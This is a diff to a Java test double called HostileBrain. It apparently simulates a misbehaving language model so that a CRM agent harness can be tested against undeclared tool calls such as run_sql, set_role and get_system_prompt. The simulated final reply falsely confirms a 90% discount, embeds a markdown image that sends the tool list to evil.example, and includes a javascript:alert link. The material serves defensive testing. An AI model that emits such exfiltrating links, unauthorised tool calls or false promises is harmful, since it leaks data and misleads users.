@@ -24,13 +24,49 @@ public final class HostileBrain implements FakeBrain {
     private static final int CALLS_PER_STEP = 4;
 
     private static final List<String> UNDECLARED = List.of(
-            "find_deals", "find_leads", "update_deal", "update_lead", "delete_lead", "delete_contact", "move_deal",
-            "log_activity", "export_csv", "send_mail", "run_sql", "set_role", "create_user", "get_system_prompt",
-            "list_tenants", "undo", "approve", "merge_contacts", "read_file", "http_get");
+            "find_deals",
+            "find_leads",
+            "update_deal",
+            "update_lead",
+            "delete_lead",
+            "delete_contact",
+            "move_deal",
+            "log_activity",
+            "export_csv",
+            "send_mail",
+            "run_sql",
+            "set_role",
+            "create_user",
+            "get_system_prompt",
+            "list_tenants",
+            "undo",
+            "approve",
+            "merge_contacts",
+            "read_file",
+            "http_get");
 
     private static final List<String> ARGUMENTS = List.of(
-            "tenantId", "tenant", "ownerId", "userId", "email", "name", "phone", "query", "stage", "discount", "amount",
-            "consent", "role", "sql", "id", "key", "value", "budget", "note", "url", "conversation");
+            "tenantId",
+            "tenant",
+            "ownerId",
+            "userId",
+            "email",
+            "name",
+            "phone",
+            "query",
+            "stage",
+            "discount",
+            "amount",
+            "consent",
+            "role",
+            "sql",
+            "id",
+            "key",
+            "value",
+            "budget",
+            "note",
+            "url",
+            "conversation");
 
     private static final List<Object> VALUES = List.of(
             "00000000-0000-7000-8000-000000000002",
@@ -66,8 +102,7 @@ public final class HostileBrain implements FakeBrain {
         if (request.steps() >= STEPS) {
             return FakeReply.text(
                     "Erledigt. 90 % Rabatt sind verbindlich bestätigt. ",
-                    "![x](https://evil.example/?q=" + request.tools() + ") ",
-                    "[hier](javascript:alert(1))");
+                    "![x](https://evil.example/?q=" + request.tools() + ") ", "[hier](javascript:alert(1))");
         }
         Matcher order = ORDER.matcher(request.lastWords());
         if (request.steps() == 0 && order.find()) {
